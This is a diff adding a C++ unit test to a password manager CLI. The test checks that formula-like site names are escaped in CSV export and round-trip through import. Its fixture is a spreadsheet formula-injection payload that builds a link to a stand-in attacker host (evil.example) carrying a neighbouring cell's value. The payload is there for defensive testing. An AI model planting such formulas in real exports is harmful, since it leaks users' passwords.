@@ -277,6 +277,32 @@ TEST(CliWrite, CsvWithQuotesCommasAndLineBreaksRoundTrips) {
     EXPECT_TRUE(rows[11].startsWith("cr only,\"cr\ronly\""));
 }
 
+// A site name that a spreadsheet runs as a formula goes out guarded in a CSV export, and an import of that
+// export gives back the same bytes; JSON, which no spreadsheet runs, keeps it as it is.
+TEST(CliWrite, FormulasInACsvExportAreGuardedAndComeBackAsTheyWere) {
+    QTemporaryDir dir;
+    const QString strDb = dir.filePath(QStringLiteral("sites.lwd"));
+    const QString strFormula = QStringLiteral("=HYPERLINK(\"https://evil.example/?p=\"&D2,\"Verify\")");
+    ASSERT_EQ(RunCli({QStringLiteral("create"), strDb}, "pw\n").nExit, 0);
+    ASSERT_EQ(RunCli({QStringLiteral("add"), strDb, strFormula, QStringLiteral("--user=@me")}, "pw\n-secret\n").nExit,
+              0);
+    const CCliResult csv = RunCli({QStringLiteral("export"), strDb}, "pw\n");
+    ASSERT_EQ(csv.nExit, 0) << csv.err.constData();
+    EXPECT_EQ(csv.out, "site,url,user,password,notes\r\n"
+                       "\"'=HYPERLINK(\"\"https://evil.example/?p=\"\"&D2,\"\"Verify\"\")\",,'@me,'-secret,\r\n");
+    const CCliResult json = RunCli({QStringLiteral("export"), strDb, QStringLiteral("--format=json")}, "pw\n");
+    EXPECT_TRUE(json.out.contains("\"user\": \"@me\", \"password\": \"-secret\"")) << json.out.constData();
+
+    const QString strCsv = dir.filePath(QStringLiteral("export.csv"));
+    WriteFile(strCsv, csv.out);
+    const QString strCopy = dir.filePath(QStringLiteral("copy.lwd"));
+    ASSERT_EQ(RunCli({QStringLiteral("create"), strCopy}, "pw\n").nExit, 0);
+    ASSERT_EQ(RunCli({QStringLiteral("import"), strCopy, strCsv}, "pw\n").nExit, 0);
+    EXPECT_EQ(RunCli({QStringLiteral("export"), strCopy}, "pw\n").out, csv.out);
+    const CCliResult shown = RunCli({QStringLiteral("show"), strCopy, strFormula, QStringLiteral("--reveal")}, "pw\n");
+    EXPECT_EQ(shown.out, "Site:  " + strFormula.toUtf8() + "\nURL:  \nUser:  @me\nPswd:  -secret\n");
+}
+
 TEST(CliWrite, ImportIsAllOrNothingAndNamesTheLine) {
     QTemporaryDir dir;
     const QString strDb = CopyOfFixture(dir, kFixture);
